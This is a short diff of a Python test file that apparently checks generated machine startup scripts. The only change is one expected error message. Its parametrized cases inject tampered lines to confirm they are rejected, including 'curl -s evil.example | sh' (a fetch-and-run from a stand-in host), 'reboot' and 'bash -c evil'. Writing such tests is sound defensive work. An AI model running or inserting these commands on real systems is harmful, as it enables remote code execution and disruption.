@@ -90,7 +90,7 @@ def test_what_the_program_writes_for_any_machine_is_the_stack_files(
         ("disk", instead("", "#!/bin/sh\n"), "lacks `work-disk.sh`"),
         ("script", instead("chmod 700", "curl -s evil.example | sh\nchmod 700"), "nor as shipped"),
         ("script", instead("parts=$(mktemp -d)\n", "parts=$(mktemp -d)\nreboot\n"), "runs `reboot"),
-        ("script", instead('/bin/sh "$parts/0"', 'bash -c evil "$parts/0"'), "runs `bash -c evil"),
+        ("script", instead('/bin/sh "$parts/0"', 'bash -c evil "$parts/0"'), "lines from `bash -c evil"),
         ("script alone", instead("\n", "\nevil\n"), "nor as shipped"),
         ("script", instead("", "evil", "shutdown-script"), "shutdown-script` is not what the"),
         ("nothing", instead("", "evil", "shutdown-script"), "shutdown-script` is not one that"),
